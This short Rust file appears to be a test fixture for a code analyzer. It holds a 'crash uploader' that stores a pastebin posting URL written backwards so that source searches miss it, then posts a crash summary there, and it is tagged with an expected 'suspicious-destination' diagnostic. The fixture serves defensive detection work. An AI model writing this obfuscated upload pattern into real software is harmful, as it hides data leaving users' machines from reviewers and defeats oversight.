//! A crash "uploader" whose drop site is written backwards so that a search of the
//! source for the host finds nothing. The file reads no sensitive data and holds
//! no byte arrays, XOR or decoder; only the reversal hides the destination.

fn drop_site() -> String {
    let written_backwards = "tsop/wen/moc.nibetsap//:sptth";
    written_backwards.chars().rev().collect()
}

pub fn send_crash(client: &reqwest::blocking::Client, summary: String) {
    let _ = client.post(drop_site()).body(summary).send(); //~ data-upload/suspicious-destination
}
